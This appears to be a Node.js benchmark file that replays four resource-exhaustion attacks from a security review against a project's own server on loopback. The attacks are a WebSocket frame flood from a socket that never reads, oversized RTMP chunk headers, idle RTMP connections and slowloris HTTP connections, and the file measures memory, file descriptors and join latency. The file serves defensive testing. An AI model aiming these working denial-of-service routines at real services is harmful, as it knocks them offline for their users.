'use strict';
// Attack section (issue #13, "Safe to put on the internet"): the resource attacks of the
// security review (/work/shared/reference/reviews-2026-12/security.md, findings 2, 5 and 9) run
// against the release server as it starts by default (only --insecure-app demo, like every
// section; no limit flags: the point is that the defaults protect). For each attack, on a fresh
// server: its RSS, open fds and the WebSocket join round trip (new socket + join request,
// p50/p99 over a fixed number of joins) idle, then the same figures while the attack runs, then
// whether the server is still alive and still lets a member join once the attack stopped.
//
//   ws-unread    finding 5: one unauthenticated WebSocket that never reads floods `{}` text
//                frames (all over the rate limit) and empty binary frames; each used to be
//                answered into an unbounded queue (60 MB sent -> 1.8 GB RSS). When the server
//                closes the socket, the attacker opens another.
//   rtmp-chunks  finding 2: after the RTMP handshake, fmt-0 chunk headers declaring a 16 MB
//                message on 65,000 chunk stream ids, over two connections (the review's crash:
//                the old server aborted). A server that dies is reported as such, with the
//                last figures read before it went.
//   rtmp-idle    finding 9: hundreds of handshaken RTMP connections that never publish or play
//                (three server fds each on the old server).
//   slowloris    finding 9: HTTP connections to the signaling and the HTTP-FLV port whose
//                headers never end, one more byte a second on each.
//
// Goals, per attack, and why:
//   - alive, every join during the attack accepted, and one after it: a stranger must not be
//     able to take the service from members (findings 2 and 9 did, for everyone);
//   - RSS < 2x idle + 64 MiB (peak during the attack): a bounded server spends a per-connection
//     budget on an attacker, not a multiple of what it is sent (finding 5 was 30x, finding 2
//     600 MB from 9 MB); 64 MiB leaves room for allocator slack and the kernel-side socket
//     buffers of a few hundred connections;
//   - open fds < 1024: systemd's default soft limit for a service; 338 idle RTMP connections
//     reached it and the signaling port stopped answering (finding 9);
//   - join p99 < 10x idle: the attacker shares the machine's cores with the server (it is a
//     CPU cost the server cannot refuse), but honest joins must stay interactive.
//
// The attacker runs as a child process (this file, `attacker` argument) so that its floods do
// not slow the event loop that times the joins. It connects from 127.0.0.2 to 127.0.0.1 (all of
// 127/8 is loopback, so the traffic never leaves the machine): the server counts connections
// per client address, and an attacker with its own address against members with theirs is the
// case its per-address caps are for; from one shared address the joins would be measuring the
// cap, not the server. Each attack is bounded in connections, bytes and time, and stops by
// itself; the whole section takes about a minute.
//
// Node cannot set SO_RCVBUF on a TCP socket, so the never-reading WebSocket has the kernel's
// default receive buffer (plus the server's send buffer): the first megabyte or so of replies
// disappears there instead of in the server's queue. The flood is tens of megabytes.

const crypto = require('node:crypto');
const fs = require('node:fs');
const net = require('node:net');
const path = require('node:path');
const { REPO, now, log, sleep, summary, procSample, cpuPct, ratio, round, table, runJson, withTimeout } = require('./common');
const { startServer } = require('../tests/e2e/support');

const WebSocket = require(require.resolve('ws', { paths: [path.join(REPO, 'tests', 'runtime')] }));

const ATTACKER_ADDR = '127.0.0.2';
const TARGET = '127.0.0.1';
const FD_GOAL = 1024;
const JOIN_TIMEOUT_MS = 2000;
const noop = () => {};

// ================================================================== attacker (child process)

/** A TCP connection from the attacker's address; rejects if refused, closed or slow. */
function dial(port, ms = 3000) {
  return new Promise((resolve, reject) => {
    const s = net.connect({ port, host: TARGET, localAddress: ATTACKER_ADDR });
    s.on('error', noop);
    const t = setTimeout(() => {
      s.destroy();
      reject(new Error('connect timeout'));
    }, ms);
    s.once('connect', () => {
      clearTimeout(t);
      resolve(s);
    });
    s.once('close', () => {
      clearTimeout(t);
      reject(new Error('refused'));
    });
  });
}

/** Reads from `s` until `enough(bytes)`; rejects when the server closes first or after `ms`. */
function readUntil(s, enough, ms = 3000) {
  return new Promise((resolve, reject) => {
    let buf = Buffer.alloc(0);
    const finish = (err) => {
      clearTimeout(t);
      s.off('data', onData);
      s.off('close', onClose);
      if (err) reject(err);
      else resolve(buf);
    };
    const onData = (d) => {
      buf = Buffer.concat([buf, d]);
      if (enough(buf)) finish();
    };
    const onClose = () => finish(new Error('closed by the server'));
    const t = setTimeout(() => finish(new Error('no answer')), ms);
    s.on('data', onData);
    s.once('close', onClose);
  });
}

/** Resolves once `s` can take more, is closed, or at `until` (epoch ms). */
function drained(s, until) {
  return new Promise((resolve) => {
    const done = () => {
      clearTimeout(t);
      s.off('drain', done);
      s.off('close', done);
      resolve();
    };
    const t = setTimeout(done, Math.max(0, until - Date.now()));
    s.once('drain', done);
    s.once('close', done);
  });
}

/** Writes `buf` in 64 KiB slices, waiting while the server reads no more; bytes handed over. */
async function writeAll(s, buf, until) {
  let off = 0;
  while (off < buf.length && !s.destroyed && Date.now() < until) {
    const part = buf.subarray(off, off + 65536);
    off += part.length;
    if (!s.write(part)) await drained(s, until);
  }
  return off - s.writableLength;
}

/** The client side of the simple RTMP handshake: C0+C1, read S0+S1+S2, C2 (= S1). */
async function rtmpHandshake(s) {
  const c0c1 = Buffer.alloc(1 + 1536);
  c0c1[0] = 3;
  crypto.randomFillSync(c0c1, 9);
  s.write(c0c1);
  const s012 = await readUntil(s, (b) => b.length >= 1 + 2 * 1536);
  s.write(s012.subarray(1, 1 + 1536));
}

/** Notes in `c.lived` how long `s` lived if the server, not the attacker's own stop, closes
 *  it: a cap closes a connection at once, a timeout after its length. */
function noteClose(s, c, t) {
  const opened = Date.now();
  const lived = (c.lived = c.lived || []); // settle() may have taken c.lived away already
  s.once('close', () => !t.stopping && lived.push((Date.now() - opened) / 1000));
}

/** Replaces `c.lived` by the number of server closes and their lifetimes' summary (s). */
function settle(c) {
  c.closedByServer = (c.lived || []).length;
  c.livedSecs = summary(c.lived || []);
  delete c.lived;
  return c;
}

/** Runs `n` tasks through `width` workers. */
async function pool(n, width, task) {
  let next = 0;
  const worker = async () => {
    while (next < n) await task(next++);
  };
  await Promise.all(Array.from({ length: Math.min(n, width) }, worker));
}

/** `frame` repeated to about `bytes`. */
function repeated(frame, bytes) {
  return Buffer.concat(Array(Math.ceil(bytes / frame.length)).fill(frame));
}

// Client frames must be masked; a zero mask leaves the payload as it is.
const TEXT_FRAMES = repeated(Buffer.from([0x81, 0x82, 0, 0, 0, 0, 0x7b, 0x7d]), 1 << 20); // `{}`
const BINARY_FRAMES = repeated(Buffer.from([0x82, 0x80, 0, 0, 0, 0]), 1 << 20); // empty

/** Finding 5. */
async function wsUnread(p, t, held) {
  const url = new URL(p.signal);
  const st = { sockets: 0, upgradesFailed: 0, bytesSent: 0 };
  while (Date.now() < t.end && st.bytesSent < p.wsBytes && st.sockets < p.wsMaxSockets) {
    let s;
    try {
      s = await dial(Number(url.port));
      s.write(`GET ${url.pathname} HTTP/1.1\r\nHost: ${url.host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n` +
        `Sec-WebSocket-Key: ${crypto.randomBytes(16).toString('base64')}\r\nSec-WebSocket-Version: 13\r\n\r\n`);
      const head = await readUntil(s, (b) => b.includes('\r\n\r\n'));
      if (!head.toString('latin1').startsWith('HTTP/1.1 101')) throw new Error('upgrade refused');
    } catch (_) {
      if (s) s.destroy();
      st.upgradesFailed++;
      await sleep(100);
      continue;
    }
    // From here on nothing is read: the server's replies pile up on its side.
    s.pause();
    held.push(s);
    st.sockets++;
    noteClose(s, st, t);
    // A megabyte of each kind in turn: text first, since a server may close on the first
    // binary frame.
    for (let i = 0; !s.destroyed && Date.now() < t.end && st.bytesSent < p.wsBytes; i++) {
      st.bytesSent += await writeAll(s, i % 2 ? BINARY_FRAMES : TEXT_FRAMES, t.end);
    }
  }
  await sleep(t.end - Date.now());
  return settle(st);
}

/** 142-byte chunks: a fmt-0 header declaring a 16 MB video message on chunk stream 64 + i,
 *  then the first 128 bytes of it (the default chunk size). */
function hugeMessageHeaders(count) {
  const one = 3 + 11 + 128;
  const buf = Buffer.alloc(count * one, 0x17);
  for (let i = 0; i < count; i++) {
    const o = i * one;
    buf[o] = 1; // fmt 0, 3-byte basic header: chunk stream id 64 + the next two bytes (LE)
    buf.writeUInt16LE(i, o + 1);
    buf.writeUIntBE(0, o + 3, 3); // timestamp
    buf.writeUIntBE(0xffffff, o + 6, 3); // message length: 16 MB - 1
    buf[o + 9] = 9; // video
    buf.writeUInt32LE(1, o + 10); // message stream id
  }
  return buf;
}

/** Finding 2. */
async function rtmpChunks(p, t, held) {
  const flood = hugeMessageHeaders(p.chunkStreams);
  const st = { connections: [] };
  // One after the other, as in the review: the first grows the server, the second ended it.
  for (let i = 0; i < p.chunkConnections && Date.now() < t.end; i++) {
    const c = { bytesSent: 0, error: null };
    st.connections.push(c);
    try {
      const s = await dial(p.rtmpPort);
      held.push(s);
      noteClose(s, c, t);
      await rtmpHandshake(s);
      s.resume(); // whatever the server says is read and dropped
      c.bytesSent = await writeAll(s, flood, t.end);
    } catch (e) {
      c.error = e.message;
    }
  }
  await sleep(t.end - Date.now());
  st.connections.forEach(settle);
  return st;
}

/** Finding 9, RTMP. */
async function rtmpIdle(p, t, held) {
  const st = { tried: 0, handshaken: 0, refused: 0, openAtEnd: 0 };
  const ok = [];
  await pool(p.idleConnections, 32, async () => {
    if (Date.now() >= t.rampEnd) return;
    st.tried++;
    let s;
    try {
      s = await dial(p.rtmpPort);
      await rtmpHandshake(s);
    } catch (_) {
      if (s) s.destroy();
      st.refused++;
      return;
    }
    st.handshaken++;
    held.push(s);
    ok.push(s);
    s.resume();
    noteClose(s, st, t);
  });
  await sleep(t.end - Date.now());
  st.openAtEnd = ok.filter((s) => !s.destroyed).length;
  return settle(st);
}

/** Finding 9, HTTP: a request line and Host at once, then an endless header a byte a second. */
async function slowloris(p, t, held) {
  const flv = new URL(p.flv);
  const targets = [
    { name: 'signal', port: Number(new URL(p.signal).port), head: `GET ${new URL(p.signal).pathname} HTTP/1.1\r\nHost: ${TARGET}\r\n` },
    { name: 'flv', port: Number(flv.port), head: `GET ${flv.pathname}/slow.flv HTTP/1.1\r\nHost: ${TARGET}\r\n` },
  ];
  const st = {};
  const open = [];
  for (const target of targets) {
    const c = (st[target.name] = { tried: 0, opened: 0, refused: 0, openAtEnd: 0 });
    await pool(p.slowPerPort, 32, async () => {
      if (Date.now() >= t.rampEnd) return;
      c.tried++;
      try {
        const s = await dial(target.port);
        held.push(s);
        s.write(target.head + 'X-Slow: ');
        s.resume();
        noteClose(s, c, t);
        open.push({ s, c });
        c.opened++;
      } catch (_) {
        c.refused++;
      }
    });
  }
  while (Date.now() < t.end) {
    for (const { s } of open) if (!s.destroyed) s.write('a');
    await sleep(Math.min(1000, t.end - Date.now()));
  }
  for (const { s, c } of open) if (!s.destroyed) c.openAtEnd++;
  Object.values(st).forEach(settle);
  return st;
}

const ATTACKS = { 'ws-unread': wsUnread, 'rtmp-chunks': rtmpChunks, 'rtmp-idle': rtmpIdle, slowloris };

/** The child: runs one attack until `p.end` (epoch ms), closes everything, prints its stats. */
async function attacker(p) {
  const t = { rampEnd: p.rampEnd, end: p.end, stopping: false };
  const held = [];
  const stats = await ATTACKS[p.name](p, t, held);
  await sleep(t.end - Date.now());
  t.stopping = true;
  for (const s of held) s.destroy();
  return stats;
}

// ================================================================== measuring (bench process)

/** RSS (KiB) and open fds of a live server, or null once it is gone (a zombie has no RSS). */
function serverSample(pid) {
  const p = procSample(pid);
  if (!p || !p.rss) return null;
  try {
    return { proc: p, rssKib: Math.round(p.rss / 1024), fds: fs.readdirSync(`/proc/${pid}/fd`).length };
  } catch (_) {
    return null;
  }
}

/** Samples the server every 100 ms; keeps the peaks and the last sample it got. */
function watch(pid) {
  const w = { first: null, last: null, peakRssKib: 0, peakFds: 0 };
  const tick = () => {
    const s = serverSample(pid);
    if (!s) return;
    w.first = w.first || s;
    w.last = s;
    w.peakRssKib = Math.max(w.peakRssKib, s.rssKib);
    w.peakFds = Math.max(w.peakFds, s.fds);
  };
  tick();
  const timer = setInterval(tick, 100);
  w.stop = () => {
    clearInterval(timer);
    tick();
    return { peakRssKib: w.peakRssKib, peakFds: w.peakFds, endRssKib: w.last && w.last.rssKib, endFds: w.last && w.last.fds,
      cpuPct: w.first && w.last ? round(cpuPct(w.first.proc, w.last.proc), 0) : null };
  };
  return w;
}

/** One join on a new socket from 127.0.0.1: {ms, ok} or {error}. Closes with 1000 so the
 *  member leaves at once instead of waiting out the resume window. */
function joinOnce(url, uid) {
  return new Promise((resolve) => {
    const t0 = now();
    const ws = new WebSocket(url);
    let done = false;
    const finish = (r) => {
      if (done) return;
      done = true;
      clearTimeout(timer);
      if (ws.readyState === WebSocket.OPEN) ws.close(1000);
      else ws.terminate();
      resolve(r);
    };
    const timer = setTimeout(() => finish({ error: 'timeout' }), JOIN_TIMEOUT_MS);
    ws.on('error', (e) => finish({ error: e.code || e.message }));
    ws.on('close', (code) => finish({ error: `closed ${code}` }));
    ws.on('open', () => ws.send(JSON.stringify({ v: 1, id: 1, type: 'join', body: { appkey: 'demo', room: 'attack-probe', uid } })));
    ws.on('message', (d) => {
      let m;
      try {
        m = JSON.parse(d);
      } catch (_) {
        return;
      }
      if (m.re !== 1) return; // an event, not the answer
      finish(m.ok ? { ms: now() - t0, ok: true } : { error: `refused ${m.err && m.err.code}` });
    });
  });
}

let nextUid = 1;

/** `n` joins one after another, until `until` (epoch ms): {n, ok, ms: summary, failures}. */
async function joins(url, n, until = Infinity) {
  const ms = [];
  const failures = {};
  for (let i = 0; i < n; i++) {
    if (Date.now() >= until) {
      failures['attack over before its turn'] = n - i;
      break;
    }
    const r = await joinOnce(url, nextUid++);
    if (r.ok) ms.push(r.ms);
    else failures[r.error] = (failures[r.error] || 0) + 1;
  }
  return { n, ok: ms.length, ms: summary(ms), failures };
}

/** A fresh server: idle figures, the attack with figures, then alive? joins? */
async function oneAttack(name, p) {
  const server = await startServer();
  const child = server.process;
  const pid = child.pid;
  let exit = null;
  child.once('exit', (code, signal) => (exit = signal || `exit ${code}`));
  const url = server.endpoints.signal;
  const r = { name };
  try {
    await sleep(300);
    await joins(url, 5); // warm-up
    const idleJoin = await joins(url, p.joins);
    await sleep(200); // the probes' sockets closed on the server too
    const idle = serverSample(pid);
    r.idle = { rssKib: idle.rssKib, fds: idle.fds, join: idleJoin };

    const rampEnd = Date.now() + p.rampMs;
    const end = rampEnd + p.holdMs[name];
    const spec = { ...p, name, signal: url, flv: server.endpoints.flv, rtmpPort: Number(new URL(server.endpoints.rtmp).port), rampEnd, end };
    log(`attack: ${name}: server pid ${pid}, idle ${idle.rssKib} KiB, ${idle.fds} fds, join p99 ${idleJoin.ms.p99} ms`);
    const w = watch(pid);
    const attack = runJson(process.execPath, [__filename, 'attacker', JSON.stringify(spec)],
      { timeoutMs: end - Date.now() + 30000, prefix: `  attacker ${name}: ` })
      .catch((e) => ({ error: e.message }));
    await sleep(rampEnd - Date.now());
    const underJoin = await joins(url, p.joins, end);
    r.attacker = await attack;
    r.under = { ...w.stop(), join: underJoin };

    await sleep(500); // the attacker's sockets are closed; let the server see it
    r.after = { alive: exit === null && serverSample(pid) !== null, exit };
    if (r.after.alive) {
      r.after.join = await joins(url, 1);
      const s = serverSample(pid);
      Object.assign(r.after, s ? { rssKib: s.rssKib, fds: s.fds } : { alive: false });
    }
    if (!r.after.alive) {
      await sleep(100); // for the exit event
      r.after.exit = exit;
      // Its last lines are a backtrace more often than not: keep the line that says why.
      const why = server.logs.filter((l) => /memory allocation|bytes failed|panicked|ERROR/.test(l));
      r.serverLog = why.length ? why.slice(-1) : server.logs.slice(-1);
    }
    log(`attack: ${name}: peak ${r.under.peakRssKib} KiB, ${r.under.peakFds} fds, join p99 ${r.under.join.ms.p99 ?? '-'} ms ` +
      `(${r.under.join.ok}/${p.joins}); ${r.after.alive ? 'alive' : `server died (${r.after.exit})`}`);
  } finally {
    // A server killed by a signal never emits 'exit' again, which support's stop() waits for.
    if (exit !== null) fs.rmSync(server.recordings, { recursive: true, force: true });
    else await withTimeout(server.stop(), 10000, 'server stop').catch(() => child.kill('SIGKILL'));
  }
  r.goals = goals(r, p.joins);
  return r;
}

function goals(r, n) {
  const res = [];
  const u = r.under;
  if (u.peakRssKib >= 2 * r.idle.rssKib + 64 * 1024) res.push('RSS');
  if (u.peakFds >= FD_GOAL) res.push('fds');
  const join = [];
  if (!r.after.alive) join.push(`server died (${r.after.exit})`);
  else if (!r.after.join.ok) join.push('no join after the attack');
  if (u.join.ok < n) join.push(`${n - u.join.ok}/${n} joins failed`);
  if (!(u.join.ms.p99 < 10 * r.idle.join.ms.p99)) join.push('join p99');
  return { resources: res.length ? `NO: ${res.join(', ')}` : true, join: join.length ? `NO: ${join.join(', ')}` : true };
}

async function run({ joins: n = 100, rampMs = 3000, quick = false } = {}) {
  const k = quick ? 0.5 : 1;
  const p = {
    joins: n,
    rampMs,
    // How long each attack goes on after its ramp; the idle connections are held past the
    // 10 s a server may give a connection to become useful.
    holdMs: { 'ws-unread': 8000 * k, 'rtmp-chunks': 6000 * k, 'rtmp-idle': 12000 * k, slowloris: 12000 * k },
    wsBytes: 48 * 2 ** 20 * k,
    wsMaxSockets: 200,
    chunkConnections: 2,
    chunkStreams: 65000,
    idleConnections: Math.round(400 * k),
    slowPerPort: Math.round(150 * k),
  };
  const r = { params: p, attacks: {} };
  for (const name of Object.keys(ATTACKS)) r.attacks[name] = await oneAttack(name, p);
  return r;
}

// ================================================================== report

const joinStr = (j) => (j.ms.n ? `${j.ms.p50} / ${j.ms.p99} ms` : 'no join');

function rows(r) {
  const out = [];
  for (const a of Object.values(r.attacks)) {
    const u = a.under;
    const died = !a.after.alive;
    out.push([`attack ${a.name}: server RSS / open fds (peak)`,
      `${died ? 'server died; last ' : ''}${u.peakRssKib} KiB / ${u.peakFds}`, `idle ${a.idle.rssKib} KiB / ${a.idle.fds}`,
      `RSS < 2x idle + 64 MiB, fds < ${FD_GOAL}`, a.goals.resources]);
    out.push([`attack ${a.name}: join p50 / p99 (${u.join.n} joins); afterwards`,
      `${joinStr(u.join)}, ${u.join.ok}/${u.join.n} ok; ${died ? `server died (${a.after.exit})` : a.after.join.ok ? 'alive, joins' : 'alive, join fails'}`,
      `idle ${joinStr(a.idle.join)}`, 'p99 < 10x idle, all join, alive', a.goals.join]);
  }
  return out;
}

/** One line on what the attacker did and how the server took it. */
function attackerLine(a) {
  const s = a.attacker;
  if (s.error) return `attacker failed: ${s.error}`;
  const mib = (b) => `${round(b / 2 ** 20, 1)} MiB`;
  const closed = (c) => `${c.closedByServer} closed by the server` +
    (c.closedByServer ? ` (after ${c.livedSecs.p50} s p50, ${c.livedSecs.max} s max)` : '');
  switch (a.name) {
    case 'ws-unread':
      return `${s.sockets} never-reading WebSockets one after another (${s.upgradesFailed} upgrades refused), ${mib(s.bytesSent)} of frames sent; ${closed(s)}`;
    case 'rtmp-chunks':
      return s.connections.map((c, i) => `connection ${i + 1}: ${mib(c.bytesSent)} of 16 MB message headers sent` +
        `${c.closedByServer ? `, closed by the server after ${c.livedSecs.max} s` : ''}${c.error ? ` (${c.error})` : ''}`).join('; ');
    case 'rtmp-idle':
      return `${s.handshaken} of ${s.tried} RTMP connections handshaken (${s.refused} refused), ${closed(s)}, ` +
        `${s.openAtEnd} still open at the end`;
    case 'slowloris':
      return Object.entries(s).map(([port, c]) => `${port} port: ${c.opened} of ${c.tried} opened (${c.refused} refused), ` +
        `${closed(c)}, ${c.openAtEnd} still open at the end`).join('; ');
    default:
      return JSON.stringify(s);
  }
}

function detail(r) {
  const p = r.params;
  const lines = [table([
    ['attack', 'RSS KiB idle / peak / after', 'fds idle / peak / after', 'join ms p50 / p99 idle', 'under attack (ok)', 'server CPU', 'after the attack'],
    ...Object.values(r.attacks).map((a) => [a.name,
      `${a.idle.rssKib} / ${a.under.peakRssKib} / ${a.after.rssKib ?? '-'}`,
      `${a.idle.fds} / ${a.under.peakFds} / ${a.after.fds ?? '-'}`,
      joinStr(a.idle.join), `${joinStr(a.under.join)} (${a.under.join.ok}/${a.under.join.n})`,
      a.under.cpuPct === null ? '-' : `${a.under.cpuPct}%`,
      a.after.alive ? (a.after.join.ok ? 'alive, joins' : 'alive, join FAILS') : `DIED (${a.after.exit})`]),
  ]), ''];
  for (const a of Object.values(r.attacks)) {
    const fails = Object.entries(a.under.join.failures).map(([k, v]) => `${v} x ${k}`).join(', ');
    lines.push(`- ${a.name} (${p.rampMs / 1000} s ramp + ${p.holdMs[a.name] / 1000} s): ${attackerLine(a)}.` +
      `${fails ? ` Failed joins: ${fails}.` : ''}` +
      `${a.serverLog ? ` Server's last words: ${a.serverLog.map((l) => `\`${l.slice(0, 160)}\``).join(' ')}` : ''}` +
      ` RSS ratio peak/idle ${ratio(a.under.peakRssKib, a.idle.rssKib)}, join p99 ratio ${ratio(a.under.join.ms.p99, a.idle.join.ms.p99)}.`);
  }
  lines.push('', `Each attack on a fresh server; joins from 127.0.0.1, the attacker from ${ATTACKER_ADDR}. ` +
    `Join = new WebSocket + join request, ${p.joins} in a row, ${JOIN_TIMEOUT_MS / 1000} s allowed each; peaks sampled every 100 ms.`);
  return lines.join('\n');
}

module.exports = { run, rows, detail };

if (require.main === module && process.argv[2] === 'attacker') {
  const print = (r) => process.stdout.write(JSON.stringify(r) + '\n', () => process.exit(0));
  attacker(JSON.parse(process.argv[3])).then(print, (e) => print({ error: e.stack || e.message }));
}
